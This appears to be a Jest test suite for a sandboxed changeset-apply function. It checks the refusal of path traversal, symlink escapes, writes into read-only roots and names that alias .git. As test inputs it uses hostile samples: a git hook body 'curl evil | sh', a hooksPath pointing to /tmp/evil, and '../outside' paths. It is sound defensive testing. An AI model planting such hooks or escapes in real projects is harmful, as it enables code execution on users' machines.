import {
  lstat,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  readlink,
  realpath,
  rename,
  rm,
  symlink,
  writeFile,
  chmod,
} from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';

import type { Changeset, ChangesetProject, FileChange } from '../../domain/changeset';
import { sha256 } from '../../lib/sha256';
import { ChangesetRefusedError, applyChangeset, validateChangeset } from '../../sandbox/apply';

const PROJECT = 'local/demo';
const AT = '2030-01-02T03:04:05.000Z';
const TEMP_FILE = /\.cleveragents-.*\.tmp$/;

/** A temp area holding the project root and a sibling directory Apply must never touch. */
let area: string;
let root: string;
let outside: string;

beforeEach(async () => {
  area = await realpath(await mkdtemp(path.join(os.tmpdir(), 'apply-test-')));
  root = path.join(area, 'project');
  outside = path.join(area, 'outside');
  await mkdir(root);
  await mkdir(outside);
  await writeFile(path.join(outside, 'secret.txt'), 'outside bytes\n');
});

afterEach(async () => {
  await rm(area, { recursive: true, force: true });
});

type Entry = { type: 'dir' } | { type: 'file'; sha: string; mode: number } | { type: 'link'; target: string };

/** Every directory, file (hash and mode) and link (target) under `dir`, by path relative to it. */
async function snapshot(dir: string): Promise<Record<string, Entry>> {
  const entries: Record<string, Entry> = {};
  const walk = async (relative: string): Promise<void> => {
    for (const name of (await readdir(path.join(dir, relative))).sort()) {
      const child = relative === '' ? name : `${relative}/${name}`;
      const absolute = path.join(dir, child);
      const stats = await lstat(absolute);
      if (stats.isSymbolicLink()) entries[child] = { type: 'link', target: await readlink(absolute) };
      else if (stats.isDirectory()) {
        entries[child] = { type: 'dir' };
        await walk(child);
      } else
        entries[child] = { type: 'file', sha: sha256(await readFile(absolute)), mode: stats.mode & 0o7777 };
    }
  };
  await walk('');
  return entries;
}

function tempFilesIn(tree: Record<string, Entry>): string[] {
  return Object.keys(tree).filter((name) => TEMP_FILE.test(name));
}

async function put(relative: string, content: string, mode = 0o644): Promise<void> {
  const file = path.join(root, relative);
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, content);
  await chmod(file, mode);
}

async function current(relative: string): Promise<Buffer> {
  return readFile(path.join(root, relative));
}

const bytes = (text: string): Buffer => Buffer.from(text, 'utf8');

function change(fields: Partial<FileChange> & Pick<FileChange, 'operation' | 'path'>): FileChange {
  return {
    project: PROJECT,
    fromPath: null,
    beforeHash: null,
    afterHash: null,
    beforeContent: null,
    afterContent: null,
    ...fields,
  };
}

function create(relative: string, content: string): FileChange {
  return change({
    operation: 'CREATE',
    path: relative,
    afterHash: sha256(content),
    afterContent: bytes(content),
  });
}

async function modify(relative: string, content: string): Promise<FileChange> {
  const before = await current(relative);
  return change({
    operation: 'MODIFY',
    path: relative,
    beforeHash: sha256(before),
    beforeContent: before,
    afterHash: sha256(content),
    afterContent: bytes(content),
  });
}

async function remove(relative: string): Promise<FileChange> {
  const before = await current(relative);
  return change({ operation: 'DELETE', path: relative, beforeHash: sha256(before), beforeContent: before });
}

async function move(from: string, to: string): Promise<FileChange> {
  const hash = sha256(await current(from));
  return change({ operation: 'MOVE', path: to, fromPath: from, beforeHash: hash, afterHash: hash });
}

function project(fields: Partial<ChangesetProject> = {}): ChangesetProject {
  return {
    projectName: PROJECT,
    alias: null,
    root,
    readOnly: false,
    sandbox: path.join(area, 'sandbox'),
    ...fields,
  };
}

function changeset(changes: FileChange[], projects: ChangesetProject[] = [project()]): Changeset {
  return { changesetId: 'cs-1', planId: 'plan-1', attempt: 1, projects, changes, createdAt: AT };
}

/**
 * Applies a changeset that must be refused, and proves the refusal wrote nothing anywhere in the area: not in the
 * project, not outside it, no directories and no temp files. Returns the problems.
 */
async function expectRefused(cs: Changeset): Promise<string[]> {
  const before = await snapshot(area);
  const validated = await validateChangeset(cs);
  expect(validated.length).toBeGreaterThan(0);

  const error: unknown = await applyChangeset(cs, { at: AT }).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ChangesetRefusedError);
  const refused = error as ChangesetRefusedError;
  expect(refused.problems).toEqual(validated);

  const after = await snapshot(area);
  expect(after).toEqual(before);
  expect(tempFilesIn(after)).toEqual([]);
  return refused.problems;
}

describe('sha256', () => {
  it('is the lowercase hex digest of bytes, and of a string as UTF-8', () => {
    const abc = 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad';
    expect(sha256('abc')).toBe(abc);
    expect(sha256(new Uint8Array([0x61, 0x62, 0x63]))).toBe(abc);
    expect(sha256('é')).toBe(sha256(Buffer.from([0xc3, 0xa9])));
  });
});

describe('ChangesetRefusedError', () => {
  it('lists the first problems and counts the rest', () => {
    const problems = ['p1', 'p2', 'p3', 'p4', 'p5', 'p6', 'p7'];
    const error = new ChangesetRefusedError(problems, 'cs-9');
    expect(error).toBeInstanceOf(Error);
    expect(error.name).toBe('ChangesetRefusedError');
    expect(error.problems).toEqual(problems);
    expect(error.message).toContain('changeset cs-9');
    expect(error.message).toContain('7 problems');
    expect(error.message).toContain('- p5');
    expect(error.message).not.toContain('- p6');
    expect(error.message).toContain('and 2 more');
  });
});

describe('applyChangeset: refusals write nothing', () => {
  it('refuses an absolute path', async () => {
    const problems = await expectRefused(changeset([create(path.join(outside, 'evil.txt'), 'evil\n')]));
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^local\/demo: CREATE ".*evil\.txt": .*is absolute/);
  });

  it('refuses a ".." component', async () => {
    const problems = await expectRefused(changeset([create('../outside/evil.txt', 'evil\n')]));
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: CREATE "\.\.\/outside\/evil\.txt": .*"\.\." component/),
    ]);
  });

  it('refuses a directory replaced by a symlink to outside the root after the changeset was computed', async () => {
    await put('sub/a.txt', 'same bytes\n');
    const cs = changeset([await modify('sub/a.txt', 'changed\n'), create('sub/new.txt', 'new\n')]);
    expect(await validateChangeset(cs)).toEqual([]);

    // The outside copy has the very bytes the changeset expects: only the symlink check can catch this.
    await writeFile(path.join(outside, 'a.txt'), 'same bytes\n');
    await rm(path.join(root, 'sub'), { recursive: true });
    await symlink(outside, path.join(root, 'sub'));

    const problems = await expectRefused(cs);
    expect(problems).toHaveLength(2);
    for (const problem of problems)
      expect(problem).toMatch(/"sub" is a symbolic link that resolves outside the project root/);
  });

  it.each([
    ['outside the root', (): string => path.join(outside, 'secret.txt')],
    ['inside the root', (): string => path.join(root, 'real.txt')],
  ])('refuses a final component that is a symlink (%s)', async (_where, target) => {
    await put('real.txt', 'outside bytes\n');
    await symlink(target(), path.join(root, 'link.txt'));
    const cs = changeset([await modify('link.txt', 'written through the link\n')]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: MODIFY "link\.txt": "link\.txt" is a symbolic link/),
    ]);
  });

  it('refuses a change to a read-only project link', async () => {
    await put('a.txt', 'old\n');
    const cs = changeset([await modify('a.txt', 'new\n')], [project({ readOnly: true, sandbox: null })]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: MODIFY "a\.txt": targets read-only project link/),
    ]);
  });

  it('refuses a MODIFY whose file changed since Execute', async () => {
    await put('a.txt', 'old\n');
    const cs = changeset([await modify('a.txt', 'new\n')]);
    await writeFile(path.join(root, 'a.txt'), 'edited by the user\n');
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(
        /^local\/demo: MODIFY "a\.txt": "a\.txt" changed since Execute .*re-run Execute$/,
      ),
    ]);
  });

  it('refuses a CREATE whose target now exists', async () => {
    const cs = changeset([create('dir/new.txt', 'planned\n')]);
    await put('dir/new.txt', 'someone else was first\n');
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: CREATE "dir\/new\.txt": .*already exists/),
    ]);
  });

  it('refuses a DELETE whose file changed since Execute', async () => {
    await put('gone.txt', 'old\n');
    const cs = changeset([await remove('gone.txt')]);
    await writeFile(path.join(root, 'gone.txt'), 'edited by the user\n');
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: DELETE "gone\.txt": "gone\.txt" changed since Execute/),
    ]);
  });

  it('refuses a MOVE whose source changed since Execute', async () => {
    await put('from.txt', 'old\n');
    const cs = changeset([await move('from.txt', 'to/to.txt')]);
    await writeFile(path.join(root, 'from.txt'), 'edited by the user\n');
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(
        /^local\/demo: MOVE "from\.txt" -> "to\/to\.txt": the source "from\.txt" changed since Execute/,
      ),
    ]);
  });

  it('validates the whole changeset before the first write: only the last change is bad', async () => {
    await put('b.txt', 'b\n');
    await put('c.txt', 'c\n');
    await put('zz.txt', 'zz\n');
    const cs = changeset([
      create('a/new/dir/file.txt', 'new\n'),
      await modify('b.txt', 'b2\n'),
      await remove('c.txt'),
      await modify('zz.txt', 'zz2\n'),
    ]);
    await writeFile(path.join(root, 'zz.txt'), 'edited by the user\n');
    const problems = await expectRefused(cs);
    expect(problems).toEqual([expect.stringMatching(/^local\/demo: MODIFY "zz\.txt": /)]);
  });

  it('refuses two changes to the same target', async () => {
    await put('a.txt', 'old\n');
    const cs = changeset([await modify('a.txt', 'new\n'), await remove('a.txt')]);
    const problems = await expectRefused(cs);
    expect(problems).toContainEqual(expect.stringMatching(/"a\.txt".*touches the same file as .*"a\.txt"/));
    expect(problems).toHaveLength(1);
  });

  it("refuses a change to a MOVE's source", async () => {
    await put('a.txt', 'old\n');
    const cs = changeset([await move('a.txt', 'b.txt'), await modify('a.txt', 'new\n')]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(
        /^local\/demo: (MODIFY "a\.txt"|MOVE "a\.txt" -> "b\.txt"): touches the same file as/,
      ),
    ]);
  });

  it('refuses a change to a project the changeset does not list', async () => {
    await put('a.txt', 'old\n');
    const cs = changeset([{ ...(await modify('a.txt', 'new\n')), project: 'local/other' }]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/other: MODIFY "a\.txt": .*not part of the changeset/),
    ]);
  });

  it('refuses a project root that no longer exists', async () => {
    const cs = changeset([create('a.txt', 'new\n')], [project({ root: path.join(area, 'missing') })]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: CREATE "a\.txt": the project root .* does not exist/),
    ]);
  });

  it('refuses content that does not match its hash (corrupt changeset)', async () => {
    const cs = changeset([{ ...create('a.txt', 'new\n'), afterContent: bytes('tampered\n') }]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([expect.stringMatching(/^local\/demo: CREATE "a\.txt": .*corrupt changeset/)]);
  });
});

describe('applyChangeset: overlapping project roots', () => {
  const DOCS = 'local/docs';
  let docs: string;

  beforeEach(() => {
    docs = path.join(root, 'docs');
  });

  /** The writable project and a read-only link whose root is given (by default `docs` inside the project). */
  function withReadOnly(changes: FileChange[], readOnlyRoot: string = docs): Changeset {
    return changeset(changes, [
      project(),
      project({ projectName: DOCS, root: readOnlyRoot, readOnly: true, sandbox: null }),
    ]);
  }

  const intrusion = (operation: string, relative: string): RegExp =>
    new RegExp(
      `^local/demo: ${operation} .*: "${relative}" of project "local/demo" lies inside read-only project ` +
        `link "local/docs" \\(the project roots overlap\\); Apply never writes to it$`,
    );

  it('refuses a change whose path leads into a read-only project nested in the writable one', async () => {
    await put('docs/readme.md', 'read-only docs\n');
    const cs = withReadOnly([
      await modify('docs/readme.md', 'overwritten\n'),
      create('docs/new/page.md', 'planted\n'),
    ]);
    const problems = await expectRefused(cs);
    expect(problems).toHaveLength(2);
    expect(problems).toContainEqual(expect.stringMatching(intrusion('MODIFY', 'docs/readme\\.md')));
    expect(problems).toContainEqual(expect.stringMatching(intrusion('CREATE', 'docs/new/page\\.md')));
  });

  it('refuses a MOVE out of a read-only project (its source is removed) and one into it', async () => {
    await put('docs/readme.md', 'read-only docs\n');
    await put('notes.md', 'notes\n');
    const cs = withReadOnly([
      await move('docs/readme.md', 'readme.md'),
      await move('notes.md', 'docs/notes.md'),
    ]);
    const problems = await expectRefused(cs);
    expect(problems).toHaveLength(2);
    expect(problems).toContainEqual(
      expect.stringMatching(intrusion('MOVE "docs/readme\\.md"', 'docs/readme\\.md')),
    );
    expect(problems).toContainEqual(expect.stringMatching(intrusion('MOVE "notes\\.md"', 'docs/notes\\.md')));
  });

  it('refuses a write that reaches the read-only project through a directory link inside the root', async () => {
    await put('docs/readme.md', 'read-only docs\n');
    await symlink(docs, path.join(root, 'alias'));
    const cs = withReadOnly([await modify('alias/readme.md', 'overwritten\n')]);
    const problems = await expectRefused(cs);
    // Refused as a link before the read-only roots are even compared: Apply follows no link at all.
    expect(problems).toEqual([
      expect.stringMatching(
        /^local\/demo: MODIFY "alias\/readme\.md": "alias" is a symbolic link; Apply does not follow it$/,
      ),
    ]);
  });

  it.each<[string, () => string]>([
    ['is the writable root itself', () => root],
    ['contains the writable root', () => area],
    ['is reached through a link', () => path.join(area, 'docs-link')],
  ])('refuses every write when the read-only root %s', async (_how, readOnlyRoot) => {
    await symlink(root, path.join(area, 'docs-link'));
    await put('a.txt', 'old\n');
    const cs = withReadOnly([await modify('a.txt', 'new\n'), create('b/c.txt', 'new\n')], readOnlyRoot());
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(intrusion('MODIFY', 'a\\.txt')),
      expect.stringMatching(intrusion('CREATE', 'b/c\\.txt')),
    ]);
  });

  it('refuses a write where a read-only root that does not exist yet would be', async () => {
    const cs = withReadOnly([create('docs/readme.md', 'planted\n')]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([expect.stringMatching(intrusion('CREATE', 'docs/readme\\.md'))]);
  });

  it('still writes beside a nested read-only project', async () => {
    await put('docs/readme.md', 'read-only docs\n');
    const docsBefore = await snapshot(docs);
    const cs = withReadOnly([create('docs2/readme.md', 'beside\n'), create('README.md', 'top\n')]);
    expect(await validateChangeset(cs)).toEqual([]);

    const result = await applyChangeset(cs, { at: AT });

    expect(result.created).toBe(2);
    expect((await current('docs2/readme.md')).toString()).toBe('beside\n');
    expect(await snapshot(docs)).toEqual(docsBefore);
  });
});

describe('applyChangeset: success', () => {
  /** One change of each kind, with the expected tree after Apply. */
  async function scenario(): Promise<{ cs: Changeset; expected: Record<string, unknown> }> {
    await put('keep.txt', 'keep\n');
    await put('run.sh', '#!/bin/sh\necho old\n', 0o755);
    await put('del/gone.txt', 'gone\n');
    await put('old/name.txt', 'moving\n', 0o600);
    const cs = changeset([
      create('new/deep/file.txt', 'created\n'),
      await modify('run.sh', '#!/bin/sh\necho new\n'),
      await remove('del/gone.txt'),
      await move('old/name.txt', 'renamed/here/name.txt'),
    ]);
    const expected = {
      'keep.txt': { type: 'file', sha: sha256('keep\n'), mode: 0o644 },
      'run.sh': { type: 'file', sha: sha256('#!/bin/sh\necho new\n'), mode: 0o755 },
      del: { type: 'dir' },
      old: { type: 'dir' },
      new: { type: 'dir' },
      'new/deep': { type: 'dir' },
      'new/deep/file.txt': { type: 'file', sha: sha256('created\n'), mode: expect.any(Number) },
      renamed: { type: 'dir' },
      'renamed/here': { type: 'dir' },
      'renamed/here/name.txt': { type: 'file', sha: sha256('moving\n'), mode: 0o600 },
    };
    return { cs, expected };
  }

  const counts = { changesetId: 'cs-1', created: 1, modified: 1, deleted: 1, moved: 1, appliedAt: AT };

  it('applies CREATE in a new nested dir, MODIFY keeping the mode, DELETE and MOVE', async () => {
    const { cs, expected } = await scenario();
    const outsideBefore = await snapshot(outside);
    expect(await validateChangeset(cs)).toEqual([]);

    const result = await applyChangeset(cs, { at: AT });

    expect(result).toEqual({ ...counts, alreadyApplied: 0 });
    const tree = await snapshot(root);
    expect(tree).toEqual(expected);
    expect(tempFilesIn(tree)).toEqual([]);
    expect(await snapshot(outside)).toEqual(outsideBefore);
  });

  it('applies the same changeset a second time as a no-op', async () => {
    const { cs, expected } = await scenario();
    await applyChangeset(cs, { at: AT });
    const first = await snapshot(area);

    expect(await validateChangeset(cs)).toEqual([]);
    const again = await applyChangeset(cs, { at: AT });

    expect(again).toEqual({ ...counts, alreadyApplied: 4 });
    expect(await snapshot(area)).toEqual(first);
    expect(await snapshot(root)).toEqual(expected);
  });

  it.each<[string, () => Promise<void>]>([
    ['the MODIFY', () => writeFile(path.join(root, 'run.sh'), '#!/bin/sh\necho old\n')],
    ['the CREATE', () => rm(path.join(root, 'new/deep/file.txt'))],
    ['the MOVE', () => rename(path.join(root, 'renamed/here/name.txt'), path.join(root, 'old/name.txt'))],
    ['the DELETE', () => writeFile(path.join(root, 'del/gone.txt'), 'gone\n')],
  ])('completes a half-applied changeset (%s reverted)', async (_which, revert) => {
    const { cs, expected } = await scenario();
    await applyChangeset(cs, { at: AT });
    const applied = await snapshot(root);
    await revert();
    expect(await snapshot(root)).not.toEqual(applied);

    const result = await applyChangeset(cs, { at: AT });

    expect(result).toEqual({ ...counts, alreadyApplied: 3 });
    const tree = await snapshot(root);
    expect(tree).toEqual(applied);
    expect(tree).toEqual(expected);
    expect(tempFilesIn(tree)).toEqual([]);
  });

  it('applies an empty changeset', async () => {
    const before = await snapshot(area);
    const result = await applyChangeset(changeset([]), { at: AT });
    expect(result).toEqual({
      changesetId: 'cs-1',
      created: 0,
      modified: 0,
      deleted: 0,
      moved: 0,
      alreadyApplied: 0,
      appliedAt: AT,
    });
    expect(await snapshot(area)).toEqual(before);
  });
});

/** One hash of a whole tree (every path, type, content hash, mode and link target): equal means nothing changed. */
async function treeHash(dir: string): Promise<string> {
  return sha256(JSON.stringify(await snapshot(dir)));
}

/** A project that is a git checkout: its `.git` holds config and a hooks directory, as a real one does. */
async function withGitDirectory(): Promise<void> {
  await put('.git/config', '[core]\n\tbare = false\n');
  await put('.git/HEAD', 'ref: refs/heads/main\n');
  await put('.git/hooks/pre-commit.sample', '#!/bin/sh\n', 0o755);
  await put('src/a.ts', 'export const a = 1;\n');
}

describe('applyChangeset: git metadata and links inside the project', () => {
  beforeEach(withGitDirectory);

  it.each([
    ['CREATE ".GIT/config"', (): FileChange => create('.GIT/config', '[core]\n\thooksPath = /tmp/evil\n')],
    ['CREATE ".git./hooks/x"', (): FileChange => create('.git./hooks/x', '#!/bin/sh\nevil\n')],
    ['CREATE "git~1/config"', (): FileChange => create('git~1/config', '[core]\n')],
    ['CREATE ".Git /HEAD"', (): FileChange => create('.Git /HEAD', 'ref: refs/heads/evil\n')],
    ['CREATE "src/.git/config"', (): FileChange => create('src/.git/config', '[core]\n')],
  ])('refuses %s, a name for .git, at validation', async (_what, make) => {
    const before = await treeHash(root);
    const problems = await expectRefused(changeset([make()]));
    expect(problems).toEqual([
      expect.stringMatching(/that names git's directory "\.git"; changes never touch it$/),
    ]);
    expect(await treeHash(root)).toBe(before);
  });

  it('refuses a MODIFY of .git/HEAD and a MOVE of .git/config, whatever else the changeset holds', async () => {
    const before = await treeHash(root);
    const config = await current('.git/config');
    const cs = changeset([
      create('ok.txt', 'fine\n'),
      change({
        operation: 'MOVE',
        path: 'config.bak',
        fromPath: '.git/config',
        beforeHash: sha256(config),
        afterHash: sha256(config),
      }),
      await modify('.git/HEAD', 'ref: refs/heads/evil\n'),
    ]);
    const problems = await expectRefused(cs);
    expect(problems).toEqual([
      expect.stringMatching(/^local\/demo: MODIFY "\.git\/HEAD": .*names git's directory/),
      expect.stringMatching(
        /^local\/demo: MOVE "\.git\/config" -> "config\.bak": source: .*names git's directory/,
      ),
    ]);
    expect(await treeHash(root)).toBe(before);
  });

  it('refuses CREATE hooks/pre-commit when hooks is a link to .git/hooks (a link staying inside the project)', async () => {
    await symlink('.git/hooks', path.join(root, 'hooks'));
    const before = await treeHash(root);
    const problems = await expectRefused(
      changeset([create('hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n')]),
    );
    expect(problems).toEqual([
      'local/demo: CREATE "hooks/pre-commit": "hooks" is a symbolic link; Apply does not follow it',
    ]);
    expect(await treeHash(root)).toBe(before);
    expect(await lstat(path.join(root, '.git/hooks/pre-commit')).catch(() => null)).toBeNull();
  });

  it('refuses MODIFY docs/a.ts when docs is a link to src (it used to be written through)', async () => {
    await symlink('src', path.join(root, 'docs'));
    const before = await treeHash(root);
    const problems = await expectRefused(changeset([await modify('docs/a.ts', 'export const a = 2;\n')]));
    expect(problems).toEqual([
      'local/demo: MODIFY "docs/a.ts": "docs" is a symbolic link; Apply does not follow it',
    ]);
    expect(await treeHash(root)).toBe(before);
  });

  it('refuses a link deeper on the way, and a MOVE whose source lies behind one', async () => {
    await mkdir(path.join(root, 'pkg'));
    await symlink('../src', path.join(root, 'pkg', 'lib'));
    const before = await treeHash(root);
    const problems = await expectRefused(
      changeset([create('pkg/lib/b.ts', 'b\n'), await move('pkg/lib/a.ts', 'moved.ts')]),
    );
    expect(problems).toHaveLength(2);
    for (const problem of problems)
      expect(problem).toMatch(/"pkg\/lib" is a symbolic link; Apply does not follow it$/);
    expect(await treeHash(root)).toBe(before);
  });
});
